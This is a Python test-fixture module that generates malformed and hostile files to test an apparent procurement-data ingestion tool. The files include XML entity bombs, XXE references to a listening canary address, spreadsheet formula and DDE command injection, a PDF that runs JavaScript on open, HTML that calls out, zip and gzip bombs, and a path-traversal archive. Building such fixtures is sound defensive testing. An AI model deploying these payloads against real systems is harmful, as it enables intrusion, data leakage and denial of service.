"""Files that no city should hand in, made for each test: damaged, hostile, not what they say.

`BAD_FILES` names each with how to make it and what may be said of it: a status of `Facts`, or the
code of the problem where it cannot be taken at all. `{canary}` in a file is an address on which the
test listens: nobody may ever call it.
"""

import gzip
import io
import json
import os
import socket
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import cast

import docx
import msoffcrypto.format.ooxml
import openpyxl
import pypdf
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

AWARDS = [{"id": "A-1", "date": "2025-05-30", "suppliers": [{"id": "S-1", "name": "Firm"}]}]
RELEASE = {
    "ocid": "ocds-abc123-1",
    "id": "1",
    "date": "2025-06-01T00:00:00Z",
    "tag": ["award"],
    "buyer": {"id": "C-1", "name": "City"},
    "tender": {"id": "T-1", "title": "Paint", "procurementMethod": "open"},
    "awards": AWARDS,
}
PACKAGE = {"uri": "https://city.example/1", "releases": [RELEASE]}
BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {new} "{f"&{old};" * 10}">'
        for old, new in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]>"
)


@dataclass(frozen=True)
class BadFile:
    """One bad file: how to make it in a folder, and what may be said of it."""

    make: Callable[[Path, str], Path]
    said: frozenset[str]


BAD_FILES: dict[str, BadFile] = {}


def bad(name: str, *said: str) -> Callable[[Callable[[Path, str], object]], None]:
    """Notes a maker; it writes the file of this name itself, or returns what shall stand in it."""

    def note(maker: Callable[[Path, str], object]) -> None:
        def make(folder: Path, canary: str) -> Path:
            path = folder / name
            content = maker(path, canary)
            if isinstance(content, str):
                path.write_text(content, encoding="utf-8")
            elif isinstance(content, bytes):
                path.write_bytes(content)
            return path

        BAD_FILES[name] = BadFile(make, frozenset(said))

    return note


def _zipped(members: dict[str, bytes], *, store: bool = False) -> bytes:
    packed = io.BytesIO()
    method = zipfile.ZIP_STORED if store else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(packed, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return packed.getvalue()


def _workbook(rows: list[list[object]] | None = None) -> bytes:
    book = openpyxl.Workbook()
    for row in rows or [["Contract Number", "Vendor Name"], ["C-1", "Firm"]]:
        book.active.append(row)
    packed = io.BytesIO()
    book.save(packed)
    return packed.getvalue()


def _with_member(packed: bytes, name: str, content: bytes) -> bytes:
    """An archive with one member put in the place of another."""
    with zipfile.ZipFile(io.BytesIO(packed)) as archive:
        members = {old: archive.read(old) for old in archive.namelist()}
    return _zipped({**members, name: content})


def _document(text: str = "Adopted on 3 November 2025.") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    packed = io.BytesIO()
    document.save(packed)
    return packed.getvalue()


def _pdf(prepare: Callable[[pypdf.PdfWriter], None] | None = None) -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    if prepare is not None:
        prepare(writer)
    packed = io.BytesIO()
    writer.write(packed)
    return packed.getvalue()


def _opens_with(kind: str, key: str, value: str) -> bytes:
    """A PDF that wants something done when it is opened."""

    def prepare(writer: pypdf.PdfWriter) -> None:
        wanted = {"/S": NameObject(kind), key: TextStringObject(value)}
        plain = DictionaryObject({NameObject(name): word for name, word in wanted.items()})
        writer.root_object[NameObject("/OpenAction")] = plain

    return _pdf(prepare)


def _lines(count: int) -> str:
    return "".join(json.dumps({**RELEASE, "ocid": f"ocds-abc123-{n}"}) + "\n" for n in range(count))


# --- JSON -----------------------------------------------------------------------------------------

bad("truncated.json", "unreadable")(lambda _, __: json.dumps(PACKAGE)[:-40])
bad("truncated.jsonl", "unreadable")(lambda _, __: _lines(50)[:-40])
bad("one-bad-line.jsonl", "unreadable")(lambda _, __: _lines(5) + "{oh no\n" + _lines(5))
bad("latin-1.json", "unreadable")(
    lambda _, __: json.dumps(PACKAGE).replace("Paint", "Señal").encode("latin-1")
)
bad("utf-16.json", "unreadable", "seen")(lambda _, __: json.dumps(PACKAGE).encode("utf-16"))
bad("nan.json", "seen")(
    lambda _, __: json.dumps(PACKAGE).replace('"title"', '"value": {"amount": NaN}, "title"')
)
bad("endless-number.json", "seen")(
    lambda _, __: json.dumps(PACKAGE).replace('"title"', '"value": {"amount": 1e999}, "title"')
)
bad("a-number-of-a-million-digits.json", "seen", "unreadable")(
    lambda _, __: json.dumps(PACKAGE).replace('"title"', f'"x": {"9" * 1_000_000}, "title"')
)
bad("half-a-surrogate.json", "seen")(lambda _, __: json.dumps(PACKAGE).replace("Paint", "\\ud800"))
bad("nested-lists.json", "unreadable", "not_a_dataset")(lambda _, __: "[" * 200_000)
bad("nested-closed.json", "unreadable", "not_a_dataset")(
    lambda _, __: "[" * 100_000 + "]" * 100_000
)
bad("nested-objects.json", "unreadable", "not_a_dataset")(lambda _, __: '{"releases":' * 100_000)
bad("nested-inside.json", "unreadable", "seen")(
    lambda _, __: json.dumps(PACKAGE).replace('"Paint"', "[" * 5_000 + "]" * 5_000)
)
bad("empty.json", "unreadable")(lambda _, __: b"")
bad("blank.json", "unreadable")(lambda _, __: " \n\t\n")
bad("a-number.json", "not_a_dataset", "unreadable")(lambda _, __: "42")
bad("numbers.json", "not_a_dataset")(lambda _, __: "[1, 2, 3]")
bad("other-json.json", "not_a_dataset")(
    lambda _, __: '{"type": "FeatureCollection", "features": []}'
)
bad("releases-null.json", "not_a_dataset")(lambda _, __: '{"releases": null}')
bad("releases-text.json", "not_a_dataset")(lambda _, __: '{"releases": "all of them"}')
bad("every-type-wrong.json", "seen", "not_a_dataset")(
    lambda _, __: json.dumps({"releases": [dict.fromkeys([*RELEASE, "contracts"], 7)] * 3})
)
bad("keys-twice.json", "seen", "not_a_dataset")(
    lambda _, __: '{"releases": [], "releases": [{"ocid": "ocds-a-1", "ocid": 4, "tender": {}}]}'
)
bad("nul.json", "unreadable")(lambda _, __: json.dumps(PACKAGE).encode().replace(b"Paint", b"\0"))
bad("comments.json", "unreadable")(lambda _, __: "// ours\n" + json.dumps(PACKAGE))
bad("a-page.json", "seen", "not_a_dataset")(lambda _, __: "<!doctype html><title>Log in</title>")
bad("one-process-a-hundred-thousand-times.jsonl", "seen", "too_large")(
    lambda _, __: (json.dumps(RELEASE) + "\n") * 100_000
)
bad("a-million-empty-releases.json", "seen", "not_a_dataset", "too_large")(
    lambda _, __: '{"releases": [' + "{}," * 999_999 + "{}]}"
)
bad("awards-without-end.json", "seen", "too_large")(
    lambda _, __: json.dumps({"releases": [{**RELEASE, "awards": AWARDS * 200_000}]})
)
bad("one-long-text.json", "seen", "too_large")(
    lambda _, __: json.dumps(PACKAGE).replace("Paint", "paint " * 5_000_000)
)

# --- CSV ------------------------------------------------------------------------------------------

bad("empty.csv", "unreadable")(lambda _, __: b"")
bad("header-only.csv", "seen", "not_a_dataset", "unreadable")(lambda _, __: "Contract,Vendor\n")
bad("ten-thousand-columns.csv", "too_large", "not_a_dataset")(
    lambda _, __: "".join(",".join(f"c{n}" for n in range(10_000)) + "\n" for _ in range(3))
)
bad("five-million-commas.csv", "too_large", "unreadable", "not_a_dataset")(
    lambda _, __: "," * 5_000_000
)
bad("one-huge-cell.csv", "too_large", "unreadable", "seen")(
    lambda _, __: "a,b\n1," + "x" * 30_000_000 + "\n"
)
bad("formulas.csv", "seen")(
    lambda path, canary: (
        "Contract Number,Vendor Name,Award Amount\n"
        f"C-1,\"=cmd|'/C touch {path.parent}/executed'!A1\",5\n"
        f'C-2,"=WEBSERVICE(""{canary}"")",6\nC-3,@SUM(1+1),7\n'
    )
)
bad("utf-16.csv", "seen")(lambda _, __: "Contract Number;Vendor Name\nC-1;Peña\n".encode("utf-16"))
bad("latin-1.csv", "seen")(
    lambda _, __: "Contract Number;Vendor Name\nC-1;Peña\n".encode("latin-1")
)
bad("nul.csv", "unreadable", "seen")(lambda _, __: b"a,b\n1,\x00\x00\x00\n2,3\n")
bad("open-quote.csv", "unreadable", "seen", "not_a_dataset")(
    lambda _, __: 'Contract Number,Vendor Name\nC-1,"Firm\n' + "C-2,Firm\n" * 1_000
)
bad("ragged.csv", "seen", "unreadable")(
    lambda _, __: "Contract Number,Vendor Name\nC-1\nC-2,Firm,more,and,more\nC-3,Firm\n"
)
bad("noise.csv", "unreadable", "seen")(lambda _, __: bytes(range(256)) * 500)

# --- workbooks ------------------------------------------------------------------------------------


@bad("password.xlsx", "encrypted")
def _(path: Path, _canary: str) -> bytes:
    locked = io.BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(_workbook())).encrypt("secret", locked)
    return locked.getvalue()


bad("bomb.xlsx", "too_large", "unreadable")(
    lambda _, __: _with_member(_workbook(), "xl/worksheets/sheet1.xml", b"<a>" * 70_000_000)
)
bad("billion-laughs.xlsx", "unreadable", "too_large", "seen", "not_a_dataset")(
    lambda _, __: _with_member(
        _workbook(),
        "xl/sharedStrings.xml",
        (BILLION_LAUGHS + "<sst><si><t>&i;</t></si></sst>").encode(),
    )
)
bad("entity.xlsx", "unreadable", "seen", "not_a_dataset")(
    lambda _, canary: _with_member(
        _workbook(),
        "xl/sharedStrings.xml",
        f'<!DOCTYPE s [<!ENTITY e SYSTEM "{canary}">]><sst><si><t>&e;</t></si></sst>'.encode(),
    )
)
bad("truncated.xlsx", "unreadable")(lambda _, __: _workbook()[:-300])
bad("formulas.xlsx", "seen")(
    lambda path, canary: _workbook(
        [
            ["Contract Number", "Vendor Name", "Award Amount"],
            ["C-1", f"=cmd|'/C touch {path.parent}/executed'!A1", 5],
            ["C-2", f'=WEBSERVICE("{canary}")', 6],
        ]
    )
)
bad("says-it-is-huge.xlsx", "seen", "too_large", "unreadable", "not_a_dataset")(
    lambda _, __: _with_member(
        _workbook(),
        "xl/worksheets/sheet1.xml",
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<dimension ref="A1:XFD1048576"/><sheetData><row r="1048576"><c r="XFD1048576" t="n">'
        b"<v>1</v></c></row></sheetData></worksheet>",
    )
)
bad("blank.xlsx", "seen", "unreadable", "not_a_dataset")(lambda _, __: _workbook([[]]))
bad("nothing-in-it.xlsx", "unreadable", "seen", "not_a_dataset")(
    lambda _, __: _zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"})
)
bad("old.xls", "unreadable", "encrypted")(
    lambda _, __: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4_000
)

# --- PDF ------------------------------------------------------------------------------------------

bad("truncated.pdf", "unreadable")(lambda _, __: _pdf()[:200])
bad("garbage.pdf", "unreadable")(lambda _, __: b"%PDF-1.7\n" + b"\xff\x00garbage" * 500)
bad("password.pdf", "encrypted")(lambda _, __: _pdf(lambda writer: writer.encrypt("secret")))
bad("a-program-inside.pdf", "seen")(
    lambda _, canary: _opens_with("/JavaScript", "/JS", f"app.launchURL('{canary}')")
)
bad("calls-out.pdf", "seen")(lambda _, canary: _opens_with("/URI", "/URI", canary))
bad("a-scan.pdf", "seen")(lambda _, __: _pdf())


@bad("pages-in-a-circle.pdf", "unreadable", "seen", "too_large")
def _(path: Path, _canary: str) -> bytes:
    def circle(writer: pypdf.PdfWriter) -> None:
        pages = cast("DictionaryObject", writer.root_object["/Pages"].get_object())
        pages[NameObject("/Kids")] = ArrayObject([pages.indirect_reference] * 2)
        pages[NameObject("/Count")] = NumberObject(2_000_000_000)

    return _pdf(circle)


@bad("bomb.pdf", "seen", "too_large", "unreadable")
def _(path: Path, _canary: str) -> bytes:
    def bomb(writer: pypdf.PdfWriter) -> None:
        stream = DecodedStreamObject()
        stream.set_data(zlib.compress(b"(x) Tj " * 40_000_000, 9))
        stream[NameObject("/Filter")] = NameObject("/FlateDecode")
        writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)

    return _pdf(bomb)


bad("a-document.csv", "seen")(lambda _, __: _pdf())
bad("a-table.pdf", "seen", "not_a_dataset")(lambda _, __: "Contract Number,Vendor Name\nC-1,Firm\n")

# --- other documents ------------------------------------------------------------------------------

bad("entity.docx", "unreadable", "seen")(
    lambda _, canary: _with_member(
        _document(),
        "word/document.xml",
        f'<!DOCTYPE d [<!ENTITY e SYSTEM "{canary}">]><w:document xmlns:w="http://schemas.openxmlformats'
        '.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body>'
        "</w:document>".encode(),
    )
)
bad("billion-laughs.docx", "unreadable", "too_large", "seen")(
    lambda _, __: _with_member(
        _document(), "word/document.xml", (BILLION_LAUGHS + "<d>&i;</d>").encode()
    )
)
bad("bomb.docx", "too_large", "unreadable")(
    lambda _, __: _with_member(_document(), "word/document.xml", b"<a>" * 70_000_000)
)
bad("truncated.docx", "unreadable")(lambda _, __: _document()[:-500])
bad("password.docx", "encrypted")(
    lambda _, __: (
        locked := io.BytesIO(),
        msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(_document())).encrypt("secret", locked),
    )[0].getvalue()
)
bad("calls-out.html", "seen")(
    lambda _, canary: (
        f'<!doctype html><meta http-equiv="refresh" content="0;url={canary}"><img src="{canary}">'
        f'<script src="{canary}"></script><link rel="stylesheet" href="{canary}"><p>Hello'
    )
)
bad("deep.html", "seen", "unreadable", "too_large")(
    lambda _, __: "<!doctype html>" + "<div>" * 300_000
)
bad("billion-laughs.svg", "seen", "unreadable")(lambda _, __: BILLION_LAUGHS + "<svg>&i;</svg>")
bad("a-program", "unreadable", "seen")(lambda _, __: b"\x7fELF" + bytes(range(256)) * 50)
bad("a-picture.pdf", "seen", "unreadable")(
    lambda _, __: b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sII", 13, b"IHDR", 60_000, 60_000)
)

# --- archives -------------------------------------------------------------------------------------

bad("bomb.gz", "too_large")(lambda _, __: gzip.compress(b"\0" * 300_000_000))
bad("bomb.json.gz", "too_large")(lambda _, __: gzip.compress(b" " * 300_000_000))
bad("truncated.json.gz", "unreadable")(
    lambda _, __: gzip.compress(os.urandom(10) + json.dumps(PACKAGE).encode() * 50)[:-30]
)
bad("bomb.zip", "too_large")(lambda _, __: _zipped({"data.json": b" " * 300_000_000}))
bad("archive-in-archive.zip", "unreadable", "seen")(
    lambda _, __: _zipped({"inner.zip": _zipped({"a.json": b"{}"})})
)
bad("climbs-out.zip", "unreadable", "seen", "not_a_dataset")(
    lambda _, __: _zipped({"../../executed": b"x", "/executed": b"x"})
)
bad("many-members.zip", "unreadable", "too_large")(
    lambda _, __: _zipped({f"{n}.json": b"{}" for n in range(20_000)})
)
bad("which-one.zip", "unreadable", "seen", "not_a_dataset")(
    lambda _, __: _zipped({"a.json": json.dumps(PACKAGE).encode(), "b.json": b"{}"})
)
bad("not-really.zip", "unreadable")(lambda _, __: b"PK\x03\x04" + os.urandom(2_000))


@bad("lies-about-its-size.zip", "unreadable", "too_large")
def _(path: Path, _canary: str) -> bytes:
    packed = bytearray(_zipped({"data.json": b" " * 50_000_000}))
    true, lie = struct.pack("<I", 50_000_000), struct.pack("<I", 40)
    return bytes(packed).replace(true, lie)


@bad("locked.zip", "encrypted", "unreadable")
def _(path: Path, _canary: str) -> bytes:
    packed = bytearray(_zipped({"data.json": b"{}"}))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        packed[packed.index(mark) + offset] |= 1
    return bytes(packed)


bad("cut.parquet", "unreadable", "not_a_dataset")(lambda _, __: b"PAR1" + os.urandom(400))
bad("lies.parquet", "unreadable", "not_a_dataset")(
    lambda _, __: b"PAR1" + os.urandom(400) + struct.pack("<I", 2**31 - 1) + b"PAR1"
)

# --- what is no ordinary file ---------------------------------------------------------------------


@bad("two-gigabytes.json", "too_large")
def _(path: Path, _canary: str) -> None:
    with path.open("wb") as stream:
        stream.truncate(2_147_483_648)


@bad("two-gigabytes.pdf", "too_large")
def _(path: Path, _canary: str) -> None:
    with path.open("wb") as stream:
        stream.truncate(2_147_483_648)


bad("a-pipe.json", "file.not_regular")(lambda path, _: os.mkfifo(path))
bad("a-folder.json", "file.not_regular")(lambda path, _: path.mkdir())
bad("a-link-to-a-device.json", "file.not_regular", "file.outside")(
    lambda path, _: path.symlink_to("/dev/zero")
)
bad("a-link-to-itself.json", "file.missing", "file.not_regular")(
    lambda path, _: path.symlink_to(path.name)
)
bad("a-link-to-nothing.json", "file.missing")(lambda path, _: path.symlink_to("nowhere.json"))


@bad("a-socket.json", "file.not_regular")
def _(path: Path, _canary: str) -> None:
    here = Path.cwd()
    os.chdir(path.parent)  # the path of a socket must be short
    try:
        with socket.socket(socket.AF_UNIX) as listening:
            listening.bind(path.name)
    finally:
        os.chdir(here)


bad("missing.json", "file.missing")(lambda _, __: None)
